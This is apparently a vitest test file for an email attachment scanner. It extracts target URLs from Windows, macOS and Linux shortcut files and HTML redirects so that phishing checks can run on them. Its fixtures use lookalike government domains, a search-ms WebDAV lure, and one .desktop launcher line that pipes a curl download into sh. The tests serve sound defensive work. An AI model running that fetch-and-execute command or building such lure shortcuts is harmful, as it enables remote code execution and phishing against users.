import { describe, expect, it } from 'vitest';
import { binaryPlistUrl, flagShortcutTargets, linkFileObservation, linkFileUrls, shortcutUrls } from './shortcuts.js';
import { walkFile } from './test-helpers.js';
import type { Finding } from '../types.js';
import { binaryWebloc } from './plist-builder.js';

const xmlWebloc = (url: string) =>
  Buffer.from(
    `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0">\n<dict>\n\t<key>URL</key>\n\t<string>${url}</string>\n</dict>\n</plist>\n`,
  );

describe('link files: their addresses', () => {
  it('reads URL= of an [InternetShortcut] (.url), not the icon nor other sections', () => {
    const file = Buffer.from('[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,11\r\n[InternetShortcut]\r\nIDList=\r\nURL=https://dichvucong-gov.example/ho-so?id=7\r\nIconIndex=0\r\nIconFile=C:\\Windows\\System32\\shell32.dll\r\n');
    expect(linkFileUrls('url', file)).toEqual({ format: 'url', urls: ['https://dichvucong-gov.example/ho-so?id=7'] });
  });

  it('reads a .website (a pinned site is an [InternetShortcut] too), with a BOM and lower-case key', () => {
    const file = Buffer.from('\uFEFF[InternetShortcut]\nurl = http://198.51.100.7/dang-nhap\n');
    expect(linkFileUrls('website', file)).toEqual({ format: 'website', urls: ['http://198.51.100.7/dang-nhap'] });
  });

  it('reads the URL key of an XML .webloc and of an .inetloc, entities decoded', () => {
    expect(linkFileUrls('webloc', xmlWebloc('https://thue-gov.example/tra-cuu?a=1&amp;b=2'))).toEqual({ format: 'webloc', urls: ['https://thue-gov.example/tra-cuu?a=1&b=2'] });
    expect(linkFileUrls('inetloc', xmlWebloc('https://inet.example/'))?.format).toBe('inetloc');
  });

  it('reads the URL key of a binary .webloc: short, long (length as an int object), UTF-16, after another key', () => {
    expect(linkFileUrls('webloc', binaryWebloc('http://a.example'))).toEqual({ format: 'webloc', urls: ['http://a.example'] });
    const long = `https://chinhphu-vn.example/van-ban/${'x'.repeat(300)}`;
    expect(binaryPlistUrl(binaryWebloc(long))).toBe(long);
    expect(binaryPlistUrl(binaryWebloc('https://bộ-công-an.example/', { utf16: true }))).toBe('https://bộ-công-an.example/');
    expect(binaryPlistUrl(binaryWebloc('https://second.example/', { extra: true }))).toBe('https://second.example/');
  });

  it('gives nothing for a broken binary plist (offsets past the end, a cut file) and never throws', () => {
    const good = binaryWebloc('https://cut.example/');
    for (let n = 0; n < good.length; n++) expect(() => binaryPlistUrl(good.subarray(0, n))).not.toThrow();
    expect(binaryPlistUrl(good.subarray(0, good.length - 1))).toBeUndefined();
    const bad = Buffer.from(good);
    bad.writeBigUInt64BE(BigInt(good.length * 4), good.length - 8);
    expect(binaryPlistUrl(bad)).toBeUndefined();
  });

  it('reads a .desktop launcher of Type=Link, not an Application launcher', () => {
    const link = Buffer.from('[Desktop Entry]\nVersion=1.0\nType=Link\nName=Cong van\nURL=https://congvan-gov.example/xem\nIcon=text-html\n');
    expect(linkFileUrls('desktop', link)).toEqual({ format: 'desktop', urls: ['https://congvan-gov.example/xem'] });
    const app = Buffer.from('[Desktop Entry]\nType=Application\nName=Cong van\nExec=sh -c "curl https://x.example | sh"\n');
    expect(linkFileUrls('desktop', app)).toBeUndefined();
  });

  it('a shortcut to a web site is reported with its addresses; one to a share or a search is not (its target tags say that)', () => {
    expect(linkFileObservation({ format: 'url', urls: ['https://a.example/x'] })).toMatchObject({ kind: 'attachment.shortcut', tags: ['url', 'web'], urls: ['https://a.example/x'] });
    expect(linkFileObservation({ format: 'url', urls: ['file://198.51.100.9/share/a.exe'] })).toBeUndefined();
    expect(linkFileObservation({ format: 'url', urls: ['search-ms:query=hoadon&crumb=location:\\\\198.51.100.9@SSL\\DavWWWRoot'] })).toBeUndefined();
  });

  it('a plain text file holding a URL is no link file', () => {
    expect(linkFileUrls('txt', Buffer.from('Xem tai https://a.example/ nhe\n'))).toBeUndefined();
  });
});

describe('link files in the attachment walk', () => {
  it('a .webloc (binary) is reported as a web shortcut carrying its address', async () => {
    const found = await walkFile('Giay moi.webloc', binaryWebloc('https://giaymoi-gov.example/xem'));
    const s = found.find((f) => f.kind === 'attachment.shortcut');
    expect(s).toMatchObject({ subject: 'Giay moi.webloc', tags: ['webloc', 'web'], urls: ['https://giaymoi-gov.example/xem'] });
  });

  it('an HTML redirect keeps its full address for the URL checks', async () => {
    const found = await walkFile('ThongBao.html', Buffer.from('<html><head><script>window.location.href = "https://thongbao-gov.example/dang-nhap?u=1";</script></head></html>'));
    expect(found.find((f) => f.kind === 'attachment.html-loader')?.urls).toEqual(['https://thongbao-gov.example/dang-nhap?u=1']);
  });
});

describe('flagged targets', () => {
  const shortcut: Finding = { scanner: 'attachments', kind: 'attachment.shortcut', detail: 'x', subject: 'a.zip → b.url', attachment: 'att1', tags: ['url', 'web'], urls: ['http://198.51.100.7/'] };
  const ipHost: Finding = { scanner: 'urls', kind: 'url.ip-host', detail: 'IP host (link in shortcut a.zip → b.url)', attachment: 'att1' };

  it('tags a shortcut whose own address a URL check flagged, not one flagged elsewhere in the message', () => {
    expect(flagShortcutTargets([shortcut, ipHost])[0]!.tags).toContain('flagged-target');
    expect(flagShortcutTargets([shortcut, { ...ipHost, detail: 'IP host (link in document a.pdf)' }])[0]!.tags).not.toContain('flagged-target');
    expect(flagShortcutTargets([shortcut, { ...ipHost, kind: 'url.listed', list: 'share_services' }])[0]!.tags).not.toContain('flagged-target');
    expect(flagShortcutTargets([shortcut, { ...ipHost, kind: 'url.listed', list: 'blocked_domains' }])[0]!.tags).toContain('flagged-target');
  });

  it('lists the shortcuts\' addresses once', () => {
    expect(shortcutUrls([shortcut, { ...shortcut, attachment: 'att2' }, ipHost])).toEqual(['http://198.51.100.7/']);
  });
});
